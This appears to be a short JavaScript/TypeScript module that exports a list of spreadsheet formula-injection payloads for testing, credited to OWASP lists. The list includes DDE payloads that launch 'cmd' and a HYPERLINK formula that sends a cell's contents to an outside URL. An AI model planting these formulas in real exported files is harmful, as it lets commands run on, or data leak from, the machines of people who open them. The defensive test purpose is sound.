/** Formulas that attackers have used in spreadsheets, from the lists of OWASP and of those who report them. */
export const maliciousFormulas = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1;1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  '=HYPERLINK("http://example.org?x="&A1;"here")',
  "=cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "＝1+1",
];
